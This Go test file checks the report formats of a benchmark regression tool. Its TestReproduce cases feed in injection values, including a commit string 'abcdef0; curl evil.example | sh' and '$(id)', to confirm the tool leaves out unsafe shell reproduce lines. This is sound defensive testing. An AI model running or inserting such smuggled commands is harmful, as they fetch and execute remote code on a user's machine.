package report_test

import (
	"flag"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/noslower/noslower/pkg/bench"
	"github.com/noslower/noslower/pkg/gate"
	"github.com/noslower/noslower/pkg/report"
)

var update = flag.Bool("update", false, "write the golden files anew")

// written returns what a form makes of a verdict.
func written(t testing.TB, form string, v gate.Verdict, o report.Options) string {
	t.Helper()
	f, err := report.ByName(form)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := f.Write(&b, v, o); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestGolden compares every form of one awkward verdict with
// testdata/report/<form>.golden; -update writes those anew.
func TestGolden(t *testing.T) {
	for _, f := range report.All() {
		t.Run(f.Name, func(t *testing.T) {
			golden(t, f.Name, written(t, f.Name, awkward(t), report.Options{Version: "1.2.3"}))
		})
	}
}

func TestByName(t *testing.T) {
	var names []string
	for _, f := range report.All() {
		if f.About == "" {
			t.Errorf("form %q does not say what it is about", f.Name)
		}
		names = append(names, f.Name)
	}
	if got, want := strings.Join(names, " "), "badge badge-json csv headline html json junit markdown text"; got != want {
		t.Errorf("All() has %q, want %q", got, want)
	}
	_, err := report.ByName("pdf")
	if want := `want one of badge, badge-json, csv, headline, html, json, junit, markdown, text, have "pdf"`; err == nil || err.Error() != want {
		t.Errorf("ByName(pdf): %v, want %s", err, want)
	}
}

var sgr = regexp.MustCompile("\x1b\\[[0-9]*m")

// TestColor has colour only where it was asked for, and nothing else than
// colour then.
func TestColor(t *testing.T) {
	v := awkward(t)
	bare := written(t, "text", v, report.Options{})
	colored := written(t, "text", v, report.Options{Color: true})
	if strings.ContainsRune(bare, '\x1b') {
		t.Error("text has an escape without being asked for colour")
	}
	if !strings.Contains(colored, "\x1b[31mregressed:\x1b[0m") {
		t.Error("coloured text has no regression in red")
	}
	if got := sgr.ReplaceAllString(colored, ""); got != bare {
		t.Errorf("without its colours it differs:\n%s", got)
	}
}

// many is a verdict of n benchmarks, each with a gating and an informational
// metric; the first of them regressed.
func many(t testing.TB, n, regressed int) gate.Verdict {
	var base, head []sample
	for i := range n {
		name := fmt.Sprintf("Benchmark/case=%d", i)
		v, rss := 1000.0, 1<<20
		if i < regressed {
			v, rss = 1100+float64(i), 1<<22
		}
		base = append(base, sample{name, instructions, five(1000)}, sample{name, maxRSS, five(1 << 20)})
		head = append(head, sample{name, instructions, five(v)}, sample{name, maxRSS, five(float64(rss))})
	}
	return decide(t, base, head, nil)
}

// TestManyBenchmarks has every gating comparison in the text, a bound on all
// else, and a headline that does not grow.
func TestManyBenchmarks(t *testing.T) {
	v := many(t, 1000, 400)
	if got := written(t, "headline", v, report.Options{}); len(got) > 500 {
		t.Errorf("the headline of 1000 benchmarks has %d bytes: %s", len(got), got)
	}
	text := written(t, "text", v, report.Options{})
	for i := range 1000 {
		if name := fmt.Sprintf("Benchmark/case=%d ", i); !strings.Contains(text, name) {
			t.Fatalf("%s is not in the text", name)
		}
	}
	_, informational, _ := strings.Cut(text, "informational:")
	if got := strings.Count(informational, "max_rss"); got != 20 {
		t.Errorf("%d informational rows, want 20", got)
	}
	if want := "and 980 more: 380 regressed, 600 same"; !strings.Contains(text, want) {
		t.Errorf("the text does not say %q", want)
	}
	if strings.Contains(text, "why the status") {
		t.Error("reasons that the rows tell are told again")
	}
	markdown := written(t, "markdown", v, report.Options{})
	for _, want := range []string{"600 gating comparisons that stayed the same", "and 550 more comparisons: 550 same", "1000 informational comparisons: 400 regressed, 600 same"} {
		if !strings.Contains(markdown, want) {
			t.Errorf("the Markdown does not say %q", want)
		}
	}
}

// TestLimit holds Markdown to every number of bytes, with the regressions
// first and what is left out counted.
func TestLimit(t *testing.T) {
	for name, v := range map[string]gate.Verdict{"awkward": awkward(t), "many": many(t, 60, 40)} {
		whole := written(t, "markdown", v, report.Options{})
		if got := written(t, "markdown", v, report.Options{Limit: len(whole)}); got != whole {
			t.Errorf("%s: cut although it fits", name)
		}
		for limit := 1; limit < len(whole); limit += 1 + limit/3 {
			got := written(t, "markdown", v, report.Options{Limit: limit})
			if len(got) > limit {
				t.Fatalf("%s: %d bytes, want at most %d", name, len(got), limit)
			}
			if strings.Count(got, "<details>") != strings.Count(got, "</details>\n") {
				t.Fatalf("%s: at %d bytes a fold is not closed:\n%s", name, limit, got)
			}
			if limit > 100 && !strings.Contains(got, "This report is cut to the space it has.") {
				t.Fatalf("%s: at %d bytes it does not say that it is cut", name, limit)
			}
		}
	}
	got := written(t, "markdown", many(t, 300, 40), report.Options{Limit: 4000})
	rows := strings.Count(got, "\n| ❌")
	if want := fmt.Sprintf("and %d more comparisons: %d regressed", 40-rows, 40-rows); rows < 10 || !strings.Contains(got, want) {
		t.Errorf("4000 bytes have %d regressions, and do not say %q:\n%s", rows, want, got)
	}
}

// TestReproduce writes lines for a shell only of what cannot do harm there.
func TestReproduce(t *testing.T) {
	for _, tt := range []struct {
		name   string
		change func(*gate.Verdict)
		want   bool
	}{
		{"all known", func(*gate.Verdict) {}, true},
		{"commit with a command", func(v *gate.Verdict) { v.Head.Commit = "abcdef0; curl evil.example | sh" }, false},
		{"commit with an option", func(v *gate.Verdict) { v.Base.Commit = "--force" }, false},
		{"no commit", func(v *gate.Verdict) { v.Head.Commit = "" }, false},
		{"suite with a command", func(v *gate.Verdict) { v.Suite = "$(id)" }, false},
		{"suite with an option", func(v *gate.Verdict) { v.Suite = "-x" }, false},
		{"runs not known", func(v *gate.Verdict) { v.Base.Runs = 0 }, false},
		{"no base", func(v *gate.Verdict) { v.Base = nil }, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			v := awkward(t)
			tt.change(&v)
			got := written(t, "markdown", v, report.Options{})
			if strings.Contains(got, "```sh\ngit checkout") != tt.want {
				t.Errorf("shell lines: want %v:\n%s", tt.want, got)
			}
		})
	}
}

// TestSides says how old the base is, and where both ran.
func TestSides(t *testing.T) {
	v := awkward(t)
	for _, tt := range []struct {
		name   string
		change func(*gate.Verdict)
		want   []string
	}{
		{"same machine", func(*gate.Verdict) {}, []string{
			"base  4f2a91c0d3e1, measured 3 days before head, 5 runs, on linux/amd64, AMD EPYC",
			"head  9b1c77d0e2f3, 5 runs, on the same kind of machine\n",
		}},
		{"a stored base", func(v *gate.Verdict) { v.Base.Origin = "run 7, 3 commits before" }, []string{"measured 3 days before head, from run 7, 3 commits before, 5 runs"}},
		{"no baseline", func(v *gate.Verdict) { v.Base = nil }, []string{"\n\nhead  9b1c77d0e2f3, 5 runs, on linux/amd64, AMD"}},
		{"other kernel", func(v *gate.Verdict) { v.Head.Host.Kernel = "6.12" }, []string{"kernel 6.11.0-1018-azure", "kernel 6.12"}},
		{"hosts not known", func(v *gate.Verdict) { v.Base.Host, v.Head.Host = bench.Host{}, bench.Host{} }, []string{"before head, 5 runs\n", "head  9b1c77d0e2f3, 5 runs\n"}},
		{"times not known", func(v *gate.Verdict) { v.Base.Time = time.Time{} }, []string{"base  4f2a91c0d3e1, 5 runs, on"}},
		{"commit that is none", func(v *gate.Verdict) { v.Head.Commit = "main\x1b[2J" }, []string{`head  main\x1b[2J, 5 runs`}},
		{"hours", func(v *gate.Verdict) { v.Base.Time = v.Head.Time.Add(-47 * time.Hour) }, []string{"measured 47 hours before head"}},
		{"minutes", func(v *gate.Verdict) { v.Base.Time = v.Head.Time.Add(-time.Hour) }, []string{"measured 60 minutes before head"}},
		{"at once", func(v *gate.Verdict) { v.Base.Time = v.Head.Time }, []string{"measured within a minute of head"}},
		{"newer base", func(v *gate.Verdict) { v.Base.Time = v.Head.Time.Add(50 * time.Hour) }, []string{"measured 2 days after head"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			w := v
			base := *v.Base
			base.Origin = ""
			w.Base = &base
			tt.change(&w)
			got := written(t, "text", w, report.Options{})
			for _, want := range tt.want {
				if !strings.Contains(got, want) {
					t.Errorf("want %q in it:\n%s", want, got)
				}
			}
		})
	}
}

// TestNamesInMarkdownSentences: the punctuation of a sentence is outside of a
// name's code span, and that of the name inside.
func TestNamesInMarkdownSentences(t *testing.T) {
	for _, tt := range []struct{ sentence, want string }{
		{"=cmd(): it was slow", "`=cmd()`: it was slow"},
		{"=x(a)(b) was slow", "`=x(a)(b)` was slow"},
		{"**a**() was slow", "`**a**()` was slow"},
		{"(a)(b)=1 was slow", "`(a)(b)=1` was slow"},
		{"(a)(b) was slow", "`(a)(b)` was slow"},
		{"it was slow (=cmd(1))", "it was slow (`=cmd(1)`)"},
		{"it was slow (x_1, x_2).", "it was slow (`x_1, x_2`)."},
		{"it was slow (see x_1).", "it was slow (see `x_1`)."},
		{"x_1=\"a\" was slow", "`x_1=\"a\"` was slow"},
		{"it was \"x_1\".", "it was `x_1`."},
		{"=cmd( was slow", "`=cmd(` was slow"},
	} {
		v := decide(t, []sample{{"a", throughput, [][]float64{{1}}}}, []sample{{"a", throughput, [][]float64{{1}}}}, nil)
		v.Warnings = []string{tt.sentence}
		if page := written(t, "markdown", v, report.Options{}); !strings.Contains(page, tt.want+"\n") {
			t.Errorf("%s\nwant %s\nin   %s", tt.sentence, tt.want, page)
		}
	}
}

// TestTextWhereNothingGates: the table's heading is above its rows, not above a
// part that has none.
func TestTextWhereNothingGates(t *testing.T) {
	rss := bench.Metric{Name: "max_rss", Unit: "B", Better: bench.Lower}
	one := []sample{{"a", rss, [][]float64{{1}}}}
	page := written(t, "text", decide(t, one, one, nil), report.Options{})
	lines := strings.Split(page, "\n")
	i := slices.IndexFunc(lines, func(l string) bool { return strings.HasPrefix(l, "benchmark ") })
	if i < 1 || lines[i-1] != "informational: shown, never fails" || !strings.HasPrefix(lines[i+1], "a ") {
		t.Errorf("want the heading between title and rows, have\n%s", page)
	}
}
